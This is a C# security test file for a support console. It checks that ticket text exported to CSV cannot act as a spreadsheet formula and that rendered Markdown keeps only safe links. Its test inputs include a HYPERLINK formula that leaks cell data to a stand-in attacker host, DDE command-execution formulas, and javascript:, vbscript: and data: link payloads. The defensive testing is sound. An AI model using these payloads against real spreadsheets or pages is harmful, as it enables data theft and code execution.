using System.Net;
using System.Net.Http.Json;
using SupportConsole.Components.Shared;
using SupportConsole.Reporting;

namespace SupportConsole.Tests.Security;

/// <summary>
/// Hole 6: ticket text that reaches staff cannot run: CSV cells that a spreadsheet would treat as formulas are
/// neutralised, and rendered Markdown keeps only http, https, mailto and relative links. (The preview in the browser:
/// <see cref="EndToEnd.ConsoleBrowserTests"/>.)
/// </summary>
public sealed class InjectionTests(ApiHost host) : IClassFixture<ApiHost>
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    public async Task TicketTextInACsvExportIsNotAFormula(string body)
    {
        var customer = $"CSV{Math.Abs(body.GetHashCode()) % 100000:D5}";
        using var ingest = await host.App.Client().PostAsJsonAsync("/api/v1/tickets",
            new { externalId = $"csv-{customer}", customerId = customer, channel = "email", body });
        Assert.True(ingest.IsSuccessStatusCode);

        using var csv = await host.App.Client().GetAsync($"/api/v1/reports/customer-tickets.csv?customer={customer}");

        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        var row = (await csv.Content.ReadAsStringAsync()).Split("\r\n")[1];
        Assert.True(row.Contains(",'", StringComparison.Ordinal) || row.Contains(",\"'", StringComparison.Ordinal), row);
        Assert.DoesNotContain(",=", row);
        Assert.DoesNotContain(",+", row);
        Assert.DoesNotContain(",@", row);
        Assert.DoesNotContain(",\t", row);
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("@x", "'@x")]
    [InlineData("-0.25", "-0.25")]
    [InlineData("+3", "+3")]
    [InlineData("1e-5", "1e-5")]
    [InlineData("-1+1", "'-1+1")]
    [InlineData("plain text", "plain text")]
    [InlineData("", "")]
    public void EveryCellIsNeutralisedButPlainNumbers(string cell, string expected)
    {
        Assert.Equal(expected, CsvTable.Neutralise(cell));
        Assert.Equal($"a\r\n{expected}\r\n", new CsvTable("t", ["a"], [[cell]]).ToCsv());
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](java&#x09;script:alert(1))")]
    [InlineData("[x]( javascript:alert(1))")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[x][r]\n\n[r]: javascript:alert(1)")]
    [InlineData("![x](javascript:alert(1))")]
    public void MarkdownDropsLinksThatAreNotHttpMailtoOrRelative(string markdown)
    {
        var html = SafeMarkdown.ToHtml(markdown);

        Assert.DoesNotContain("href=", html);
        Assert.DoesNotContain("src=", html);
        Assert.DoesNotContain("<a", html);
    }

    [Fact]
    public void AnUnsafeLinkKeepsItsText()
    {
        Assert.Equal("<p>read <em>this</em> now</p>\n", SafeMarkdown.ToHtml("read [*this*](javascript:alert(1)) now"));
    }

    [Theory]
    [InlineData("[a](https://help.example/cards)", "href=\"https://help.example/cards\"")]
    [InlineData("[a](http://help.example/)", "href=\"http://help.example/\"")]
    [InlineData("[a](mailto:help@bank.example)", "href=\"mailto:help@bank.example\"")]
    [InlineData("[a](/knowledge/card-delivery)", "href=\"/knowledge/card-delivery\"")]
    [InlineData("[a](#fees)", "href=\"#fees\"")]
    [InlineData("<b>raw</b>", "&lt;b&gt;raw&lt;/b&gt;")]
    public void SafeLinksAndEscapedHtmlRemain(string markdown, string expected)
    {
        Assert.Contains(expected, SafeMarkdown.ToHtml(markdown));
    }
}
